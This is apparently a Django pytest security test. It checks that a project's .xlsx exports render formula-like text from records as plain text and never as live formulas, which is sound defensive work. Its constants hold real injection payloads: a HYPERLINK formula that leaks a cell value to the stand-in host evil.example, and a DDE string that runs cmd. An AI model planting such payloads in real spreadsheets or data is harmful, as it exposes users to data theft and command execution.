"""Text that a spreadsheet would run as a formula (=HYPERLINK(...), +, -, @) entered in records
comes out of every .xlsx export of the project as plain text, never as a formula."""

import io
import re

import pytest
from django.test import Client
from openpyxl import load_workbook

from activities.models import Activity
from aid.models import AidCase, Campaign, HardshipWorker
from core.periods import Period
from economy.models import Household
from reports.services import summary_publish
from tests.security.catalogue import project_pages, url_for
from unions.models import Union

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
PLUS = "+1+cmd|' /C calc'!A0"
AT = "@SUM(1+1)"
XLSX_PAGES = re.compile(r"(export|xlsx)$")


def inject_formulas() -> None:
    """Formula text in the free-text fields that the exports show."""
    union = Union.objects.filter(dissolved_on__isnull=True).order_by("pk").first()
    Union.objects.filter(pk=union.pk).update(name=LINK)
    for joint in Union.objects.filter(kind=Union.Kind.JOINT):  # named in the summary
        Union.objects.filter(pk=joint.pk).update(name=f"={joint.name}", chair=PLUS)
    worker = HardshipWorker.objects.filter(cases__isnull=False).order_by("pk").first()
    HardshipWorker.objects.filter(pk=worker.pk).update(name=LINK)
    AidCase.objects.filter(worker=worker).update(notes=AT)
    for campaign in Campaign.objects.all():
        Campaign.objects.filter(pk=campaign.pk).update(name=f"+{campaign.name}")
    for household in Household.objects.all():
        Household.objects.filter(pk=household.pk).update(business=f"@{household.business}")
    for activity in Activity.objects.all():
        Activity.objects.filter(pk=activity.pk).update(title=f"-{activity.title}")


def read_cells(content: bytes) -> tuple[list[str], int]:
    """(cells holding a formula, cells holding injected text kept as text)."""
    workbook = load_workbook(io.BytesIO(content))
    formulas, kept = [], 0
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str)
                                             and cell.value.startswith(("=", "+", "@"))):
                    formulas.append(f"{sheet.title}!{cell.coordinate}: {cell.value}")
                elif isinstance(cell.value, str) and cell.value.startswith(("'=", "'+", "'@",
                                                                             "'-")):
                    kept += 1
    return formulas, kept


def test_no_export_writes_a_formula(demo):
    inject_formulas()
    leader = demo["users"]["leader"]
    summary_publish(period=Period(2012, "h1"), by=leader)  # v2, with the injected text
    client = Client()
    client.force_login(demo["users"]["admin"])
    pages = [page for page in project_pages() if XLSX_PAGES.search(page.name)]
    assert len(pages) >= 5
    quoted = 0
    for page in pages:
        url = url_for(page, demo["objects"], demo["users"]["admin"])
        if "<int:number>" in page.route:
            url = url.replace("/v1/", "/v2/")
        response = client.get(url)
        assert response.status_code == 200, url
        content = b"".join(response.streaming_content) if response.streaming else \
            response.content
        formulas, kept = read_cells(content)
        assert formulas == [], url
        quoted += kept
    assert quoted, "the injected text reached the exports (as text)"
